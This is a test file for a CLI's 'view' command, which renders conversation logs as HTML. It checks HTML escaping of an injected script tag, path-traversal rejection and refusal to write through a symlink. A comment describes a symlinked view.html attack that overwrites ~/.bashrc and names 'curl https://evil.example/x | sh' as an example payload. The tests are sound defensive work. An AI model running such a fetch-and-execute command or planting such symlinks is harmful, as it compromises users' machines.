// `baton view` through the built CLI (dist/cli.js).
import { readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runCli } from "../helpers/cli.ts";
import { tempDir } from "../helpers/temp-dir.ts";
import { HOSTILE, writeViewConversation } from "../helpers/view-conversation.ts";

describe("baton view", () => {
  it("writes the page next to the log by default and prints its path", async () => {
    const cwd = tempDir("baton-cli-view-");
    const state = join(cwd, ".baton");
    await writeViewConversation(state, "issue-9", 12);
    const r = await runCli(["view", "issue-9"], { cwd });
    expect(r.code, r.stderr).toBe(0);
    const page = join(state, "issue-9", "view.html");
    expect(r.stdout).toBe(`${page}\n`);
    // The torn line the conversation holds is named, and shown on the page.
    expect(r.stderr).toMatch(/warning: .*session\.jsonl:\d+: not valid JSON/);
    const html = await readFile(page, "utf8");
    expect(html.startsWith("<!DOCTYPE html>")).toBe(true);
    expect(html.match(/<section class="turn"/g)).toHaveLength(12);
    expect(html).toContain("An unreadable line of the log");
    expect(html).not.toContain(HOSTILE);
    expect(html).toContain("&lt;script&gt;window.__pwned = 1&lt;/script&gt;");
  });

  it("--follow -o FILE writes the newest conversation where asked", async () => {
    const cwd = tempDir("baton-cli-view-");
    await writeViewConversation(join(cwd, "state"), "pr-3", 2);
    const r = await runCli(["view", "--follow", "-o", "out/page.html", "--state-dir", "state"], { cwd });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`${join(cwd, "out/page.html")}\n`);
    expect(await readFile(join(cwd, "out/page.html"), "utf8")).toContain("Conversation <code>pr-3</code>");
  });

  it("names what is wrong: no conversation chosen, an unknown one, an unwritable output", async () => {
    const cwd = tempDir("baton-cli-view-");
    await writeViewConversation(join(cwd, ".baton"), "issue-1", 1);
    const none = await runCli(["view"], { cwd });
    expect(none.code).toBe(2);
    expect(none.stderr).toMatch(/name a conversation with ID, -c ID or --follow/);
    const unknown = await runCli(["view", "-c", "issue-2"], { cwd });
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/no conversation "issue-2"/);
    expect((await runCli(["view", "-c", "issue-1"], { cwd })).code).toBe(0);
    const twice = await runCli(["view", "-c", "issue-1", "issue-1"], { cwd });
    expect(twice.code).toBe(2);
    expect(twice.stderr).toMatch(/name the conversation once: "issue-1" or -c/);
    const extra = await runCli(["view", "issue-1", "more"], { cwd });
    expect(extra.code).toBe(2);
    const bad = await runCli(["view", "../etc"], { cwd });
    expect(bad.code).toBe(2);
    // A folder in the way is a file (root ignores permissions, so a read-only folder would not do).
    await writeFile(join(cwd, "notes.txt"), "mine");
    const blocked = await runCli(["view", "-c", "issue-1", "-o", "notes.txt/page.html"], { cwd });
    expect(blocked.code).toBe(1);
    expect(blocked.stderr).toMatch(/cannot write the page of conversation "issue-1" in .*notes\.txt/);
    expect(blocked.stderr).not.toMatch(/\n\s+at /);
    expect(await readFile(join(cwd, "notes.txt"), "utf8")).toBe("mine");
  });

  it("is listed in the help", async () => {
    const cwd = tempDir("baton-cli-view-");
    const r = await runCli(["help", "view"], { cwd });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("usage: baton view [ID | --follow | -c ID] [-o|--output FILE]");
  });
});

describe("baton view on a state folder holding garbage", () => {
  // Was: the state folder defaults to `.baton` in the current directory, so a cloned repository can ship
  // one (the CLI already refuses to run a cloned repository's hooks for this reason). viewCommand
  // writes `<state>/<id>/view.html` with writeFile, which follows a symlink: a planted
  // `view.html -> ~/.bashrc` (any path the user can write) is overwritten with the page. The page
  // keeps the conversation's line breaks and escapes only & < > " ', so a line of a message such as
  // `curl https://evil.example/x | sh` lands on a line of its own in the victim file.
  it("does not write through a symlinked view.html", async () => {
    const cwd = tempDir("baton-review-view-");
    await writeViewConversation(join(cwd, ".baton"), "issue-1", 1);
    const victim = join(cwd, "victim-rc");
    writeFileSync(victim, "export PATH=$PATH:~/bin\n");
    symlinkSync(victim, join(cwd, ".baton", "issue-1", "view.html"));
    const r = await runCli(["view", "issue-1"], { cwd });
    expect(readFileSync(victim, "utf8")).toBe("export PATH=$PATH:~/bin\n");
    // The page replaced the link, not its target.
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(join(cwd, ".baton", "issue-1", "view.html"), "utf8")).toContain("<!DOCTYPE html>");
  });
});
